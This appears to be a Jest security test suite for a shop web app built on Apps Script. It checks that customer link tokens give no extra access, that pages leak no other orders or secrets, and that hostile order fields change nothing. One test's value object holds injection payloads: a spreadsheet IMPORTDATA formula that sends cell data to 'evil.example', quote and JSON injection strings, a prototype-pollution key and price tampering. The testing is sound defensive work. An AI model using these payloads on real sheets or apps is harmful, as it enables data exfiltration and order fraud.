import { afterAll, beforeAll, expect, test } from '@jest/globals';
import type { Json, WebRequest } from 'local-apps-script';
import { provenPost } from '../../demo/proven-post';
import type { PagePurpose } from '../../src/core/page-token';
import { closeOffices } from '../support/office';
import { PAUL } from '../support/shop';
import { documentedRows } from './entry-points';
import { changedParts, openTarget, type Target } from './stranger';

afterAll(closeOffices);

const ROWS = documentedRows();
const PAGES = ['order', 'feedback', 'unsubscribe'] as const satisfies readonly PagePurpose[];

let target: Target;

beforeAll(async () => {
  target = await openTarget();
});

const web = async (request: WebRequest): Promise<string> => {
  const { status, location, body } = await target.office.request(request);
  return status === 302 ? target.office.echo((location ?? '').split('/').pop() ?? '').body : body;
};

/** The links that the customer of an order has got, by page. */
const linksOf = (orderId: string) => PAGES.map((page) => [page, target.pageToken(page, orderId)] as const);

const form = (fields: Record<string, string>) => ({
  body: new URLSearchParams(fields).toString(),
  contentType: 'application/x-www-form-urlencoded',
});

/** What an attack got: the row, and the answer. */
type Got = readonly [row: string, answer: string];

/** Attacks the rows with what a customer's links hold, one page's after the other; nothing may have changed, and nothing of others is reported. */
const withoutEffect = async (
  rows: readonly string[],
  attack: (row: string, token: string, page: PagePurpose) => Promise<string>,
): Promise<readonly Got[]> => {
  const before = target.state();
  const got: Got[] = [];
  const links = linksOf('order-1');
  for (const [index, row] of rows.entries()) {
    const [page, token] = links[index % links.length] ?? links[0] ?? ['order', ''];
    got.push([row, await attack(row, token, page)]);
  }
  expect(changedParts(before, target.state())).toEqual([]);
  expect(got.filter(([, answer]) => target.secrets.some((secret) => answer.includes(secret)))).toEqual([]);
  expect(got.length).toBeGreaterThanOrEqual(PAGES.length);
  return got;
};

const PUBLIC = ['GET ?route=prices', 'GET ?route=health'];

test('a customer with a link gets no more from any route than a stranger', async () => {
  const got = await withoutEffect(ROWS['Routes of the web app'], (row, token) => {
    const [method = '', name = ''] = row.split(' ');
    const proof = {
      t: token,
      key: token,
      'webhook-id': 'a',
      'webhook-timestamp': '1',
      'webhook-signature': `v1,${token}`,
    };
    const query = new URLSearchParams(proof).toString();
    const body = JSON.stringify({ route: name, orderId: 'order-1', status: 'cancelled', key: token, t: token });
    return web(method === 'GET' ? { method, query: `${name.slice(1)}&${query}` } : { method, query, body });
  });
  for (const [row, answer] of got) {
    const { ok, code = '' } = JSON.parse(answer) as { ok: boolean; code?: string };
    const allowed = PUBLIC.includes(row) ? [row, true, ''] : [row, false, expect.stringMatching(/^SIGNATURE_/)];
    expect([row, ok, code]).toEqual(allowed);
  }
});

test('a customer with a link who calls a function of the script from the page changes nothing', async () => {
  const names = [...ROWS['Top-level functions'], ...ROWS.Triggers, ...ROWS['Menu items and other methods of App']];
  await withoutEffect(names, async (name, token, page) => {
    const run = (args: readonly Json[]) => target.office.run({ function: name, args, as: 'anonymous' });
    return JSON.stringify([await run([token]), await run([{ parameters: { page: [page] } }])]);
  });
});

test('the token of a link opens no method of a dialog', async () => {
  const got = await withoutEffect(ROWS['Methods of dialogs'], async (method, token) =>
    JSON.stringify(await target.office.run({ function: 'rpc', args: [token, method, 'order-1'], as: 'anonymous' })),
  );
  expect(got.filter(([, answer]) => !answer.includes('has expired'))).toEqual([]);
});

test.each(ROWS['Customers’ pages'])('a link opens its own page only, and %s tells nothing of others', async (row) => {
  const [method = '', query = ''] = row.split(' ');
  const own = query.slice('?page='.length);
  for (const [page, t] of linksOf('order-1')) {
    // A link opens five pages a minute.
    target.office.world.clock.advance(60_000);
    const before = target.state();
    const fields = { t, id: 'order-2', orderId: 'order-2', number: 'ASDAR26-0002', action: 'nothing' };
    const html = await web({
      method,
      ...(method === 'GET'
        ? { query: `${query.slice(1)}&${new URLSearchParams(fields)}` }
        : { query: query.slice(1), ...form({ ...fields, action: page === 'unsubscribe' ? 'nothing' : 'rate' }) }),
    });
    const works = !html.includes('This link doesn’t work');
    expect([page, works]).toEqual([page, own === page]);
    expect(html).not.toContain('ASDAR26-0002');
    expect(target.secrets.filter((secret) => html.includes(secret))).toEqual([]);
    // Unsubscribing, and saying that prints haven't arrived, are what these forms are for.
    if (!(works && method === 'POST' && page !== 'feedback')) expect(changedParts(before, target.state())).toEqual([]);
  }
});

/** Values with which someone at the shop may try to reach more than an order. */
const REACHING = {
  customerName: '=IMPORTDATA("https://evil.example/"&D2)',
  street: '1 Main St", "route": "orders/status',
  apartment: "'; status=paid",
  city: '{{total}} {{status}}',
  eventCode: 'ASDAR26',
  fulfillmentType: 'ship',
  status: 'paid',
  shippingStatus: 'shipped',
  total: undefined,
  price: 0,
  discount: 1000,
  shippingFee: 0,
  orderNumber: 'ASDAR26-0001',
  __proto__x: { isAdmin: true },
  warnings: ['none'],
  'Order ID': 'order-1',
};

test('anybody through the shop gets an order of their own, priced by us, pending, with one receipt, and changes nothing else', async () => {
  const { office, shop } = target;
  const secrets = {
    webhookSecret: office.world.properties.read(`script:${office.bound}`).WEBHOOK_SECRETS ?? '',
    sharedKey: null,
  };
  const others = () => shop.rows('Orders').filter((row) => row['Order ID'] !== 'through the shop');
  const [before, emails, priceList, settings] = [
    others(),
    shop.emails().length,
    shop.rows('Price List'),
    shop.rows('Settings'),
  ];
  const { body, query } = provenPost(
    { ...PAUL, ...REACHING, email: 'anybody@shop.example', orderId: 'through the shop' },
    'signature',
    secrets,
    office.world.clock.now(),
  );
  const answer = await shop.post(body, query);
  expect(answer).toMatchObject({ ok: true, status: 'pending', total: '40.00', duplicate: false });
  expect(answer.orderNumber).not.toBe('ASDAR26-0001');
  expect(target.secrets.filter((secret) => secret !== 'Paul Smith' && JSON.stringify(answer).includes(secret))).toEqual(
    [],
  );
  expect(shop.rows('Orders').find((row) => row['Order ID'] === 'through the shop')).toMatchObject({
    Status: 'pending',
    'Customer Name': REACHING.customerName,
    Total: 40,
  });
  expect(shop.formulas('Orders')).toEqual([]);
  expect([others(), shop.rows('Price List'), shop.rows('Settings')]).toEqual([before, priceList, settings]);
  expect(shop.emails().slice(emails)).toMatchObject([{ to: 'anybody@shop.example' }]);
});
